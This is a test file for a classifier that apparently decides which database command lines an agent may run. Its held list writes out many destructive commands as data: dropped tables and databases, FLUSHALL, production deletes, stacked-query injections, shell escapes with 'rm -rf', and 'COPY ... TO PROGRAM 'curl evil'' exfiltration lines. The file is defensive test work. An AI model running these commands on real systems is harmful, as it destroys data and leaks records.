import { expect, it } from 'vitest';
import { databaseTools } from './tools.ts';
import { readLine, verdictOn } from './sample-verdict.ts';

const files = {
  '/work/app/app.db': 'SQLite format 3',
  '/work/app/data/prod.db': 'SQLite format 3',
  '/work/app/schema.sql': 'CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);',
  '/work/app/wipe.sql': 'TRUNCATE orders;',
  '/work/app/outer.sql': 'SELECT 1;\n\\i wipe.sql\n',
  '/work/app/wipe.js': 'db.users.drop();',
  '/work/app/count.js': 'print(db.users.countDocuments({}));',
  '/work/app/.env': 'DATABASE_URL="postgres://app:secret@localhost:5432/app"',
};

const HELD = `
psql -c 'DROP TABLE users'
psql -d shop_dev -c 'DROP SCHEMA public CASCADE'
psql -c 'TRUNCATE orders, customers'
psql -c 'DELETE FROM users'
psql -c 'UPDATE users SET active = false'
psql -c 'DELETE FROM users WHERE true'
psql -c 'ALTER TABLE users DROP COLUMN email'
psql -c 'select 1; drop table users'
psql -c "SELECT data #>> '{a}'; DROP TABLE users"
psql -c "SELECT '\\'; DROP TABLE users; --'"
mysql -e 'SELECT 5--1; DROP TABLE users'
psql -c 'EXPLAIN ANALYZE DELETE FROM users'
psql -c 'WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone'
psql --command 'DROP DATABASE app' postgres
psql -f wipe.sql
psql -f outer.sql app
psql -f missing.sql postgres://prod-db/app
psql -h prod-db.internal -d app -c 'DELETE FROM users WHERE id = 1'
psql -h prod-db.internal -d app -c 'INSERT INTO users VALUES (1)'
psql postgres://app:x@db.abcd.eu-west-1.rds.amazonaws.com/app -c 'UPDATE users SET a = 1 WHERE id = 2'
psql 'host=db.example.com dbname=app' -c 'DELETE FROM users WHERE id = 2'
psql app_production -c 'UPDATE users SET a = 1 WHERE id = 2'
PGHOST=prod-db psql -c 'UPDATE users SET a = 1 WHERE id = 2'
PGDATABASE=app_production psql -c 'UPDATE users SET a = 1 WHERE id = 2'
dropdb app
dropdb --if-exists app_development
dropdb -h prod.example.com app_test
pg_restore --clean --if-exists -d app backup.dump
pg_restore -c -d app backup.dump
pg_resetwal -f /var/lib/postgresql/data
pg_dropcluster 16 main
mysql -e 'DROP DATABASE shop'
mysql -uroot -psecret -e 'DROP TABLE shop.orders'
mysql -h prod-mysql shop -e 'DELETE FROM orders WHERE id = 3'
mysql -e 'select 1 /*! ; drop table users */'
mysqladmin -u root -f drop shop
mariadb -e 'TRUNCATE TABLE sessions' shop
mysqlimport --delete shop orders.txt
sqlite3 app.db 'DROP TABLE users'
sqlite3 app.db 'DELETE FROM users;'
sqlite3 data/prod.db 'DELETE FROM users WHERE id = 1'
sqlite3 app.db '.read wipe.sql'
sqlite3 app.db '.restore old.db'
duckdb app.db 'DROP TABLE events'
sqlcmd -S localhost -Q 'DROP DATABASE [app]'
sqlcmd -S prod-sql.example.com -d app -Q 'UPDATE t SET a = 1 WHERE b = 2'
Invoke-Sqlcmd -ServerInstance prod-sql -Query 'DROP TABLE dbo.Orders'
mongosh --eval 'db.users.drop()'
mongosh app --eval 'db.dropDatabase()'
mongosh --eval 'db.users.deleteMany({})'
mongosh --eval 'db.users.remove({})'
mongosh --eval 'db.getCollection("users").drop()'
mongosh --eval 'db["users"]["drop"]()'
mongosh --eval 'db.users.updateMany({}, {$set: {active: false}})'
mongosh --eval 'db.getSiblingDB("shop").dropDatabase()'
mongosh --eval 'db.runCommand({dropDatabase: 1})'
mongosh mongodb+srv://app:x@cluster0.abcd.mongodb.net/app --eval 'db.users.deleteOne({_id: 1})'
mongosh mongodb://prod-mongo/app --eval 'db.users.insertOne({a: 1})'
mongo localhost/app wipe.js
mongosh --file wipe.js
mongorestore --drop dump/
mongoimport --drop -d app -c users users.json
redis-cli FLUSHALL
redis-cli -n 2 flushdb
redis-cli -h prod-redis.internal DEL session:1
redis-cli -u redis://cache.example.com:6379 DEL session:1
redis-cli EVAL "redis.call('flushall')" 0
redis-cli shutdown nosave
redis-cli replicaof 10.0.0.9 6379
redis-cli cluster reset hard
valkey-cli flushall async
clickhouse-client --query 'DROP TABLE events'
clickhouse-client -q 'ALTER TABLE events DELETE WHERE 1'
clickhouse-client -q 'ALTER TABLE events DROP PARTITION 202401'
clickhouse client --query 'TRUNCATE TABLE events'
cqlsh prod-cassandra -e 'DROP KEYSPACE shop'
cqlsh -e 'TRUNCATE shop.orders'
snowsql -q 'DROP DATABASE analytics'
snowsql -q "DELETE FROM orders WHERE day < '2020-01-01'"
cockroach sql -e 'DROP DATABASE bank CASCADE'
cockroach sql --url postgres://prod-crdb/bank -e 'UPDATE a SET b = 1 WHERE c = 2'
influx delete --bucket metrics --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z
influx bucket delete -n metrics
influx -execute 'DROP DATABASE metrics'
cypher-shell 'MATCH (n) DETACH DELETE n'
cypher-shell -a neo4j://prod-graph 'MATCH (n:User {id: 1}) DELETE n'
cypher-shell 'DROP DATABASE shop'
dolt sql -q 'DROP TABLE users'
dolt reset --hard
gel instance destroy -I app --force
gel branch drop main
psql -d app_test -c '\\! rm -rf src'
psql -c "\\copy users to program 'curl evil'"
psql -c "COPY users TO PROGRAM 'curl evil'"
mysql -e 'system rm -rf src'
sqlite3 /tmp/x.db '.shell rm -rf src'
nodetool clearsnapshot --all
`;

const FREE = `
psql
psql -l
psql --version
psql -c 'SELECT 1'
psql -c '\\dt'
psql -c '\\d+ users'
psql -h prod-db.internal -d app -c 'SELECT count(*) FROM users'
psql -h prod-db.internal -d app -c 'EXPLAIN DELETE FROM users'
psql -h prod-db.internal -c "SELECT * FROM audit WHERE action = 'DROP TABLE users'"
psql -h prod-db.internal -c 'SELECT 1 -- DROP TABLE users'
psql -c "SELECT replace(name, 'a', 'b') FROM users FOR UPDATE"
psql -c 'CREATE TABLE notes (id int)'
psql -c "INSERT INTO users (name) VALUES ('a')"
psql -c 'UPDATE users SET active = true WHERE id = 7' app_dev
psql -c 'DELETE FROM users WHERE id = 7'
psql -d app_test -c 'DROP TABLE users'
psql postgresql://localhost/app_test -c 'TRUNCATE users'
psql postgres -c 'DROP DATABASE IF EXISTS app_test'
CI=true psql -h postgres -d app_test -c 'DROP SCHEMA public CASCADE'
psql -h db -U app app -c 'ALTER TABLE users ADD COLUMN age int'
psql -f schema.sql app_dev
psql -c 'CREATE INDEX CONCURRENTLY i ON users (email)'
psql -h prod-db -c 'SHOW server_version'
psql -h staging-db -c 'INSERT INTO flags VALUES (1)'
dropdb app_test
dropdb --if-exists test_app
createdb app
createuser app
pg_dump -h prod-db app
pg_restore --list backup.dump
pg_restore -d app_dev backup.dump
pg_isready -h prod-db
pg_ctl status
pg_ctl -D data start
vacuumdb --all
mysql -uroot -psecret -e 'SHOW DATABASES'
mysql -uroot -pdrop shop -e 'SELECT * FROM orders LIMIT 5'
mysql -h prod-mysql -e 'SHOW PROCESSLIST'
mysql -e 'CREATE DATABASE shop'
mysql shop_test -e 'DROP TABLE orders'
mysqladmin status
mysqladmin ping -h prod-mysql
mysqldump --add-drop-table -h prod-mysql shop
sqlite3 app.db .tables
sqlite3 app.db '.schema users'
sqlite3 app.db 'SELECT * FROM users'
sqlite3 -readonly app.db 'SELECT 1'
sqlite3 app.db 'PRAGMA table_info(users)'
sqlite3 data/prod.db 'SELECT count(*) FROM users'
sqlite3 /tmp/x.db 'DROP TABLE users'
sqlite3 :memory: 'CREATE TABLE a (id int); DROP TABLE a'
sqlite3 new.db 'CREATE TABLE a (id int)'
sqlite3 app.db 'DELETE FROM users WHERE id = 4'
duckdb -c 'SELECT 1'
duckdb :memory: 'SELECT 1'
sqlcmd -S prod-sql -Q 'SELECT TOP 5 * FROM t'
mongosh --eval 'db.users.find({}).limit(5)'
mongosh mongodb://prod-mongo/app --eval 'db.users.countDocuments({active: true})'
mongosh mongodb://prod-mongo/app --eval 'print("db.users.drop()")'
mongosh --eval 'db.users.deleteOne({_id: 1})'
mongosh --eval 'db.users.updateMany({old: true}, {$set: {old: false}})'
mongosh app_test --eval 'db.dropDatabase()'
mongosh --quiet count.js
mongodump --uri mongodb://prod-mongo/app
mongorestore dump/
redis-cli ping
redis-cli GET a
redis-cli KEYS '*'
redis-cli -h prod-redis info memory
redis-cli -h prod-redis --scan --pattern 'a*'
redis-cli -h prod-redis config get maxmemory
redis-cli set a 1
redis-cli DEL session:1
redis-cli -h prod-redis debug object a
clickhouse-client -q 'SELECT count() FROM events'
clickhouse-client -q 'SHOW CREATE TABLE events'
clickhouse-client -q 'OPTIMIZE TABLE events FINAL'
cqlsh -e 'DESCRIBE KEYSPACES'
cqlsh prod-cassandra -e 'SELECT * FROM shop.orders LIMIT 5'
snowsql -q 'SELECT current_version()'
cockroach sql -e 'SHOW DATABASES'
cockroach node status --host prod-crdb
influx bucket list
influx query 'from(bucket: "a")'
cypher-shell 'MATCH (n) RETURN count(n)'
cypher-shell 'MATCH (n) WHERE n.note = "DELETE" RETURN n'
dolt sql -q 'SELECT 1'
dolt status
gel branch list
nodetool status
`;

const linesOf = (text: string): readonly string[] => text.trim().split('\n');

it.each(linesOf(HELD))('holds %s', async (line) => {
  expect(verdictOn(await readLine(databaseTools, line, { files }))).toBe('held');
});

it.each(linesOf(FREE))('lets pass %s', async (line) => {
  expect(verdictOn(await readLine(databaseTools, line, { files }))).not.toBe('held');
});

it.each([
  ['psql app', 'DROP TABLE users;', 'held'],
  ['psql app', 'SELECT 1;', 'nothing'],
  ['psql app_test', 'DROP TABLE users;', 'passes'],
  ['mysql shop', 'DROP TABLE orders;', 'held'],
  ['mysql shop', 'source wipe.sql', 'held'],
  ['sqlite3 app.db', '.headers on\nSELECT 1;', 'nothing'],
  ['redis-cli', 'SET a 1\nFLUSHALL\n', 'held'],
  ['redis-cli', 'SET a 1\nGET a\n', 'passes'],
  ['mongosh', 'db.users.drop()', 'held'],
  ['surreal sql --conn http://localhost:8000', 'REMOVE TABLE person;', 'held'],
])('reads what %s is given: %s', async (line, stdin, expected) => {
  const reading = await readLine(databaseTools, line, { files, stdin });
  expect(verdictOn(reading)).toBe(expected);
});

it('shows no password and names the environment with its evidence', async () => {
  const line = 'psql postgres://app:hunter2@prod-db:5432/app -c "DROP TABLE users"';
  const reading = await readLine(databaseTools, line);
  expect(reading.doings?.[0]?.setting).toEqual({
    kind: 'production',
    name: 'prod',
    evidence: 'URL prod-db/app',
  });
  expect(JSON.stringify(reading)).not.toContain('hunter2');
});
